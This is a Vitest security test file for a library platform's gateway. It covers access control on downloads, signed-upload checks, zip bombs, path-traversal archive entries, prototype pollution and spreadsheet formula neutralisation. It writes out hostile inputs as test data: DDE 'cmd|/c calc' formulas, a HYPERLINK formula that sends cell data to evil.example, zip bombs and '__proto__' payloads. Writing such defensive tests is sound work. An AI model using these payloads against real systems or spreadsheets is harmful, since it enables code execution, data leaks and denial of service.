// Issue 16, items 5 (downloads and uploads) and 9 (files), against the production gateway: every download
// of Demo University is refused to anyone but its administrator; the signed EBA upload endpoint refuses
// tampered, reused and unsigned uploads, oversized bodies, non-zip files, zip bombs and `../` entries; JSON
// inputs with `__proto__` keys store nothing of them; every CSV, TSV and XLSX the product writes keeps cells
// starting with = + - @ from being formulas.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { createDeflateRaw, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { writeZip } from '../../apps/gateway/src/testing/zip.ts';
import { anonymous, baseUrl, signIn, type Client, type RoleKey } from './support';

// ---- a small zip writer (stored or deflated entries), to build hostile archives ----

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function zip(entries: ReadonlyArray<{ name: string; data: Buffer }>): Buffer {
  return zipOf(
    entries.map(({ name, data }) => ({
      name,
      compressed: deflateRawSync(data),
      size: data.length,
      // The CRC of a bomb's megabytes is not worked out (the directory's sizes are what is inspected).
      crc: data.length > 1024 * 1024 ? 0 : crc32(data),
    })),
  );
}

/** A zip of deflated entries; `size` is what the headers declare, which a hostile archive may understate. */
function zipOf(entries: ReadonlyArray<{ name: string; compressed: Buffer; size: number; crc: number }>): Buffer {
  return writeZip(entries.map(({ name, compressed, size, crc }) => ({ name, data: compressed, size, crc })));
}

const XLSX_PARTS = [
  { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types/>') },
  { name: 'xl/workbook.xml', data: Buffer.from('<?xml version="1.0"?><workbook/>') },
];

async function validWorkbook(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('Titles').addRow(['ISBN', 'Title']);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

// ---- signed uploads ----

interface Signed {
  path: string;
  fields: Record<string, string>;
}

async function signedUpload(client: Client, siteCode = 'demouniv'): Promise<Signed> {
  const { ebaSignedUrl } = await client.data<{ ebaSignedUrl: string }>('mutation ($s: String!) { ebaSignedUrl(siteCode: $s) }', {
    s: siteCode,
  });
  const url = new URL(ebaSignedUrl, 'http://gateway.invalid');
  return { path: url.pathname, fields: Object.fromEntries(url.searchParams) };
}

async function post(
  client: Client | null,
  signed: Signed,
  file: Buffer | string | null,
  overrides: Record<string, string> = {},
): Promise<number> {
  const form = new FormData();
  for (const [name, value] of Object.entries({ ...signed.fields, ...overrides })) form.set(name, value);
  if (file !== null) form.set('file', new Blob([typeof file === 'string' ? file : new Uint8Array(file)]), 'selection.xlsx');
  const init = { method: 'POST', body: form };
  const response = client ? await client.fetch(signed.path, init) : await (await anonymous()).fetch(signed.path, init);
  await response.arrayBuffer();
  return response.status;
}

/** Sends only the head of a multipart POST declaring `length` bytes; resolves with the status answered. */
function declaredTooLarge(path: string, length: number): Promise<number> {
  const { hostname, port } = new URL(baseUrl());
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { hostname, port, path, method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': length } },
      (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
        req.destroy();
      },
    );
    req.on('error', reject);
    req.write('--x\r\n');
  });
}

let librarian: Client;

beforeAll(async () => {
  librarian = await signIn('librarian');
});

describe('item 9: the signed EBA upload endpoint', () => {
  it('refuses a tampered signature, site code, key or expiry, and an unsigned form', async () => {
    const signed = await signedUpload(librarian);
    const workbook = await validWorkbook();
    const flipped = signed.fields.signature!.replace(/^./, (c) => (c === '0' ? '1' : '0'));
    expect(await post(librarian, signed, workbook, { signature: flipped })).toBe(403);
    expect(await post(librarian, signed, workbook, { siteCode: 'basicinst' })).toBe(403);
    expect(await post(librarian, signed, workbook, { key: `${signed.fields.key}x` })).toBe(403);
    // An expiry moved (later, or into the past) no longer matches its signature.
    expect(await post(librarian, signed, workbook, { expires: String(Number(signed.fields.expires) + 3600) })).toBe(403);
    expect(await post(librarian, signed, workbook, { expires: String(Math.floor(Date.now() / 1000) - 10) })).toBe(403);
    expect(await post(librarian, { path: signed.path, fields: {} }, workbook)).toBe(403);
  });

  it('refuses a body over the limit, a file that is not a zip, a zip bomb and `../` entries', async () => {
    // Built before any request: a pooled connection left idle while this runs could be closed by the server.
    const bomb = zip([...XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(64 * 1024 * 1024) }]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const signed = await signedUpload(librarian);
    // A body declared over the limit is refused before it is read (and the connection closed).
    expect(await declaredTooLarge(signed.path, 10 * 1024 * 1024 + 128 * 1024)).toBe(413);
    expect(await post(librarian, signed, 'ISBN,Title\n=cmd|"/c calc"!A1,x\n')).toBe(415);
    expect(await post(librarian, signed, Buffer.from('%PDF-1.4 not a workbook'))).toBe(415);
    expect(await post(librarian, signed, bomb)).toBe(415);
    for (const name of ['../evil.txt', 'xl/../../evil.txt', '/etc/passwd', 'xl\\..\\evil.txt'])
      expect(await post(librarian, signed, zip([...XLSX_PARTS, { name, data: Buffer.from('x') }])), name).toBe(415);
  });

  it('accepts a signed upload once: the same signature used again is refused', async () => {
    const signed = await signedUpload(librarian);
    const workbook = await validWorkbook();
    expect(await post(librarian, signed, workbook)).toBe(204);
    expect(await post(librarian, signed, workbook)).toBe(403);
  });

  it('a signed URL is only given for an institution the user may act on', async () => {
    const basic = await signIn('basic');
    const result = await basic.gql('mutation { ebaSignedUrl(siteCode: "demouniv") }');
    expect(result.body.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });

  it('refuses a cross-site form POST to the upload endpoint', async () => {
    const signed = await signedUpload(librarian);
    const form = new FormData();
    for (const [name, value] of Object.entries(signed.fields)) form.set(name, value);
    form.set('file', new Blob([new Uint8Array(await validWorkbook())]), 'selection.xlsx');
    const response = await librarian.fetch(signed.path, { method: 'POST', body: form, headers: { origin: 'https://evil.example' } });
    expect(response.status).toBe(403);
    // The same signature still works from the console's own origin (the refusal did not use it up).
    expect(await post(librarian, signed, await validWorkbook())).toBe(204);
  });
});

/** `bytes` zeros deflated a megabyte at a time (the test never holds them whole). */
async function deflatedZeros(bytes: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const block = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < bytes; written += block.length)
    if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
  deflate.end();
  await ended;
  return Buffer.concat(chunks);
}

/** Streams `total` bytes of a multipart body without a Content-Length (chunked); resolves with the status answered. */
function streamedBody(path: string, total: number): Promise<number> {
  const { hostname, port } = new URL(baseUrl());
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      { hostname, port, path, method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' } },
      (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
        req.destroy();
      },
    );
    req.on('error', (error: NodeJS.ErrnoException) => (error.code === 'EPIPE' || error.code === 'ECONNRESET' ? resolve(0) : reject(error)));
    const chunk = Buffer.alloc(256 * 1024, 0x61);
    let sent = 0;
    const pump = () => {
      while (sent < total) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once('drain', pump);
      }
      req.end();
    };
    req.write('--x\r\nContent-Disposition: form-data; name="file"; filename="big.xlsx"\r\n\r\n');
    pump();
  });
}

/** Resident set and its peak (VmHWM) of a process, in MB, from /proc. */
function memoryOf(pid: number): { rss: number; peak: number } {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = (field: string) => Number(new RegExp(`^${field}:\\s+(\\d+) kB`, 'm').exec(status)?.[1] ?? NaN);
  return { rss: kb('VmRSS') / 1024, peak: kb('VmHWM') / 1024 };
}

/**
 * The bound: refusing hostile files makes the gateway's peak resident memory (VmHWM, reset before) grow by at
 * most this many MB over its RSS before. Measured 2026-11-24: +51 to +68 MB (about 425 MB RSS before); with
 * processing inflating an entry past its declared size (zip.ts's limit removed) +528 MB, and the test fails.
 */
const FILE_MEMORY_BOUND_MB = 96;

describe('item 9: process memory stays bounded while hostile files are refused', () => {
  it(`peak RSS grows by at most ${FILE_MEMORY_BOUND_MB} MB over zip bombs of 256 MB (honest sizes, refused at upload; understated, refused by processing) and 4 streamed 24 MB bodies`, async () => {
    const pid = inject('gatewayPid');
    expect(pid, 'the gateway process id (SECURITY_GATEWAY_PID with SECURITY_GATEWAY_URL)').toBeGreaterThan(0);
    expect(existsSync(`/proc/${pid}/status`)).toBe(true);
    const zeros = await deflatedZeros(256 * 1024 * 1024);
    const honest = zipOf([
      ...XLSX_PARTS.map(({ name, data }) => ({ name, compressed: deflateRawSync(data), size: data.length, crc: crc32(data) })),
      { name: 'xl/worksheets/sheet1.xml', compressed: zeros, size: 256 * 1024 * 1024, crc: 0 },
    ]);
    // The directory claims 900 KB; inflating it as-is would give 256 MB.
    const understated = zipOf([
      ...XLSX_PARTS.map(({ name, data }) => ({ name, compressed: deflateRawSync(data), size: data.length, crc: crc32(data) })),
      { name: 'xl/worksheets/sheet1.xml', compressed: zeros, size: 900 * 1024, crc: 0 },
    ]);
    expect(honest.length).toBeLessThan(1024 * 1024);

    // Warm up (first upload's code paths and buffers), then reset the peak (clear_refs 5) and measure from here.
    await post(librarian, await signedUpload(librarian), await validWorkbook());
    writeFileSync(`/proc/${pid}/clear_refs`, '5');
    const before = memoryOf(pid);
    // Two honest bombs and two streamed oversized bodies at once: refused at the door.
    const uploads = await Promise.all([0, 1].map(async () => signedUpload(librarian)));
    const streams = await Promise.all([0, 1].map(async () => (await signedUpload(librarian)).path));
    const statuses = await Promise.all([
      ...uploads.map((signed) => post(librarian, signed, honest)),
      ...streams.map((path) => streamedBody(path, 24 * 1024 * 1024)),
    ]);
    expect(statuses.slice(0, 2)).toEqual([415, 415]);
    // Streamed bodies: 413, or the connection cut once the 10 MB limit is passed (0).
    for (const status of statuses.slice(2)) expect([413, 0]).toContain(status);
    // The understated bomb passes the door (its directory looks sane) and is stored; processing it inflates
    // each entry no further than its declared size, so it fails there, within the same bound, with a reason.
    const moreStreams = await Promise.all([0, 1].map(async () => (await signedUpload(librarian)).path));
    const [stored] = await Promise.all([
      post(librarian, await signedUpload(librarian), understated),
      ...moreStreams.map((path) => streamedBody(path, 24 * 1024 * 1024)),
    ]);
    expect(stored).toBe(204);
    const trigger = await librarian.gql('mutation { ebaTriggerUpload(siteCode: "demouniv", accountType: "institution") { status } }');
    expect(trigger.body.errors).toBeUndefined();
    let status = 'running';
    let reason: string | null = null;
    for (let attempt = 0; attempt < 100 && status === 'running'; attempt += 1) {
      await new Promise((resolve) => setTimeout(resolve, 200));
      const answer = await librarian.data<{ ebaUploadStatus: { status: string; reason: string | null } }>(
        '{ ebaUploadStatus(siteCode: "demouniv") { status reason } }',
      );
      ({ status, reason } = answer.ebaUploadStatus);
    }
    expect({ status, reason: reason?.startsWith('EBA-') }).toEqual({ status: 'failed', reason: true });
    const after = memoryOf(pid);
    const growth = after.peak - before.rss;
    console.info(
      `gateway memory: RSS ${before.rss.toFixed(1)} MB before, peak ${after.peak.toFixed(1)} MB during (+${growth.toFixed(1)} MB), RSS ${after.rss.toFixed(1)} MB after`,
    );
    expect(growth).toBeLessThanOrEqual(FILE_MEMORY_BOUND_MB);
    // Still serving.
    expect(await post(librarian, await signedUpload(librarian), await validWorkbook())).toBe(204);
  });
});

describe('item 9: `__proto__` keys in JSON inputs store nothing of them', () => {
  it('access-method preferences, licence bodies and event details', async () => {
    const polluted = '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}';
    const account = `{"__proto__":{"polluted":"yes"},"preferences":{"InstitutionFinderInfo":${JSON.stringify(`${polluted},"loginUrl":"","domainCredentialProvider":""}`)}}}`;
    const update = await librarian.gql(
      'mutation ($a: String!) { updateInstitutionalAccount(institutionId: "100001", account: $a) { preferences { InstitutionFinderInfo } } }',
      { a: account },
    );
    expect(JSON.stringify(update.body)).not.toContain('polluted');
    const licence = await librarian.gql('mutation ($b: String!) { updateLicense(licenseId: "none", licenseBody: $b) { status } }', {
      b: `${polluted},"status":"OK"}`,
    });
    expect(licence.body.errors?.length).toBeGreaterThan(0);
    const event = await librarian.gql('mutation ($d: String) { logEvent(input: { type: "admin_error", detail: $d }) }', {
      d: `${polluted}}`,
    });
    expect(event.status).toBe(200);
    // The gateway still behaves: a fresh object of its own has no `polluted`, so validation and access still work.
    const after = await librarian.data<{ iacAccount: { preferences: { InstitutionFinderInfo: string } } }>(
      '{ iacAccount(accountId: "100001", idType: "externalId") { preferences { InstitutionFinderInfo } } }',
    );
    expect(after.iacAccount.preferences.InstitutionFinderInfo).not.toContain('polluted');
    const basic = await signIn('basic');
    expect((await basic.gql('{ iacAccount(accountId: "100001", idType: "externalId") { id } }')).body.errors?.[0]?.extensions?.code).toBe(
      'FORBIDDEN',
    );
  });
});

// ---- downloads ----

interface Download {
  url: string;
  kind: 'xlsx' | 'tsv' | 'csv' | 'json' | 'pdf';
}

function kindOf(url: string, mediaType = ''): Download['kind'] {
  if (/spreadsheetml|\.xlsx/.test(mediaType + url)) return 'xlsx';
  if (/tab-separated|\.tsv|\.txt/.test(mediaType + url)) return 'tsv';
  if (/csv/.test(mediaType + url)) return 'csv';
  if (/pdf/.test(mediaType + url)) return 'pdf';
  return 'json';
}

/** Every download of Demo University the librarian can reach, from the answers of the gateway. */
async function librarianDownloads(): Promise<Download[]> {
  const data = await librarian.data<{
    homepageSummaryV2: { institution: { downloads: Array<{ url: string }> } };
    holdingsSummary: Record<string, { links: Array<{ url: string; mediaType: string }> }>;
    getEBADownloadLink: string;
    reportHistory: Array<{ report_id: string; status: string }>;
  }>(
    `query ($u: ID!) {
      homepageSummaryV2(siteCode: "demouniv", accountType: "institution") { institution { downloads { url } } }
      holdingsSummary(siteCode: "demouniv") {
        journals { links { url mediaType } } books { links { url mediaType } } primarySources { links { url mediaType } }
        images { links { url mediaType } } institutionalCollections { links { url mediaType } } freeAndOpen { links { url mediaType } }
      }
      getEBADownloadLink(siteCode: "demouniv")
      reportHistory(reportHistoryUserId: $u, reportsType: { userId: $u, namespace: "Counter5.1", platform: "jstor" }) { report_id status }
    }`,
    {
      u: (await librarian.data<{ session: { userAccount: { id: string } } }>('{ session { userAccount { id } } }')).session.userAccount.id,
    },
  );
  const downloads: Download[] = [
    ...data.homepageSummaryV2.institution.downloads.map(({ url }) => ({ url, kind: kindOf(url) })),
    ...Object.values(data.holdingsSummary).flatMap((tab) =>
      tab.links.map((link) => ({ url: link.url, kind: kindOf(link.url, link.mediaType) })),
    ),
    { url: data.getEBADownloadLink, kind: 'xlsx' },
    ...data.reportHistory
      .filter((item) => item.status === 'complete')
      .map((item) => ({ url: `/admin/reports/download/${item.report_id}/`, kind: 'json' as const })),
    { url: '/ui/data-fetch/downloads/user-management/demouniv/email-previews.pdf', kind: 'pdf' },
  ];
  return downloads.map((download) => ({
    ...download,
    url: new URL(download.url, 'http://gateway.invalid').pathname + new URL(download.url, 'http://gateway.invalid').search,
  }));
}

describe('item 5: downloads of another institution', () => {
  it('are refused without a session and to every other demo role; its administrator gets them', async () => {
    const downloads = await librarianDownloads();
    expect(downloads.length).toBeGreaterThan(8);
    const others: RoleKey[] = ['basic', 'consortium', 'publisher', 'agent', 'staff'];
    const clients = [
      { who: 'anonymous', client: await anonymous() },
      ...(await Promise.all(others.map(async (who) => ({ who, client: await signIn(who) })))),
    ];
    const failures: string[] = [];
    for (const { url } of downloads) {
      const own = await librarian.fetch(url);
      await own.arrayBuffer();
      if (own.status !== 200) failures.push(`librarian ${url}: ${own.status}`);
      for (const { who, client } of clients) {
        const response = await client.fetch(url);
        await response.arrayBuffer();
        if (![401, 403, 404].includes(response.status)) failures.push(`${who} ${url}: ${response.status}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it('the staff-only EBA status report is refused to administrators', async () => {
    for (const who of ['librarian', 'basic', 'agent'] as const) {
      const response = await (await signIn(who)).fetch('/ui/data-fetch/downloads/eba-status/report.xlsx');
      expect(response.status, who).toBe(403);
    }
    expect((await (await signIn('staff')).fetch('/ui/data-fetch/downloads/eba-status/report.xlsx')).status).toBe(200);
  });
});

// ---- formula neutralisation ----

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

async function formulaCellsOfXlsx(bytes: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const found: string[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.SharedString) {
          if (cell.type === ExcelJS.ValueType.Formula) found.push(`${sheet.name}!${cell.address}: formula`);
        }
        if (typeof cell.value === 'string' && FORMULA_START.test(cell.value))
          found.push(`${sheet.name}!${cell.address}: ${cell.value.slice(0, 40)}`);
      });
    });
  });
  return found;
}

function formulaFieldsOfText(text: string, separator: string): string[] {
  return text
    .split(/\r?\n/)
    .flatMap((line) => line.split(separator))
    .map((field) => field.replace(/^"|"$/g, ''))
    .filter((field) => FORMULA_START.test(field) && !NUMBER.test(field))
    .map((field) => field.slice(0, 40));
}

describe('item 9: every CSV, TSV and XLSX the product writes neutralises = + - @', () => {
  it('a hostile institution name in a report request does not become a formula in its files', async () => {
    const { session } = await librarian.data<{ session: { userAccount: { id: string; contact: { email: string } } } }>(
      '{ session { userAccount { id contact { email } } } }',
    );
    const hostile = '=HYPERLINK("https://evil.example","x")';
    for (const output_format of ['xlsx', 'tsv']) {
      const added = await librarian.gql('mutation ($d: ReportSubmissionInput!) { addReport(submissionData: $d) { report_id status } }', {
        d: {
          report_name: `+cmd|' /C calc'!A0 ${output_format}`,
          report_type: 'Counter5.1',
          user_id: session.userAccount.id,
          email_address: session.userAccount.contact.email,
          output_format,
          attributes: {
            namespace: 'Counter5.1',
            reportCode: 'PR',
            institutionName: hostile,
            requiredAttributes: [
              { name: 'Institution_ID', value: 'demouniv' },
              { name: 'Begin_Date', value: '2026-02-01' },
              { name: 'End_Date', value: '2026-02-28' },
              { name: 'Platform', value: 'jstor' },
            ],
          },
        },
      });
      // Refused (a name that is not the institution's) or accepted: either way no file may hold a formula.
      if (added.body.errors?.length) continue;
    }
  });

  it('issue 30, item 9: a report named as a formula is written with the formula neutralised (CSV and TSV)', async () => {
    const { session } = await librarian.data<{ session: { userAccount: { id: string; contact: { email: string } } } }>(
      '{ session { userAccount { id contact { email } } } }',
    );
    const u = session.userAccount.id;
    const names = ['=HYPERLINK("https://evil.example/?leak="&B5,"Refresh")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3+cmd'];
    const wanted: string[] = [];
    for (const [index, output_format] of ['csv', 'csv', 'tsv'].entries()) {
      const namespace = output_format === 'csv' ? 'BooksReports' : 'Counter5.1';
      const added = await librarian.data<{ addReport: { report_id: string } }>(
        'mutation ($d: ReportSubmissionInput!) { addReport(submissionData: $d) { report_id status } }',
        {
          d: {
            report_name: names[index],
            report_type: namespace,
            user_id: u,
            email_address: session.userAccount.contact.email,
            output_format,
            attributes: {
              namespace,
              reportCode: output_format === 'csv' ? 'BK_T1' : 'PR',
              institutionName: 'Demo University',
              requiredAttributes: [
                { name: 'Institution_ID', value: 'demouniv' },
                // A month each: the same settings would be a duplicate.
                { name: 'Begin_Date', value: `2025-0${index + 1}-01` },
                { name: 'End_Date', value: `2025-0${index + 1}-${index === 1 ? 28 : 31}` },
                { name: 'Platform', value: 'jstor' },
              ],
            },
          },
        },
      );
      wanted.push(added.addReport.report_id);
    }
    const failures: string[] = [];
    for (const id of wanted) {
      let body = '';
      for (let attempt = 0; attempt < 60 && body === ''; attempt += 1) {
        const response = await librarian.fetch(`/admin/reports/download/${id}/`);
        const bytes = Buffer.from(await response.arrayBuffer());
        if (response.status === 200) body = bytes.toString('utf8');
        else await new Promise((resolve) => setTimeout(resolve, 500));
      }
      expect(body, `report ${id} was generated`).not.toBe('');
      failures.push(...formulaFieldsOfText(body, body.includes('\t') ? '\t' : ',').map((field) => `${id} ${field}`));
    }
    expect(failures).toEqual([]);
  });

  it('no downloaded workbook or text file holds a cell that a spreadsheet would run', async () => {
    // Reports requested above are generated by the job queue; those complete by now are checked with the rest.
    const downloads = (await librarianDownloads()).filter((download) => download.kind !== 'pdf');
    const failures: string[] = [];
    let checked = 0;
    for (const { url } of downloads) {
      const response = await librarian.fetch(url);
      const bytes = Buffer.from(await response.arrayBuffer());
      if (response.status !== 200) continue;
      const type = response.headers.get('content-type') ?? '';
      checked += 1;
      if (/spreadsheetml/.test(type)) failures.push(...(await formulaCellsOfXlsx(bytes)).map((cell) => `${url} ${cell}`));
      else if (/tab-separated|text\/plain/.test(type))
        failures.push(...formulaFieldsOfText(bytes.toString('utf8'), '\t').map((field) => `${url} ${field}`));
      else if (/csv/.test(type)) failures.push(...formulaFieldsOfText(bytes.toString('utf8'), ',').map((field) => `${url} ${field}`));
    }
    expect(checked).toBeGreaterThan(5);
    expect(failures).toEqual([]);
  });
});
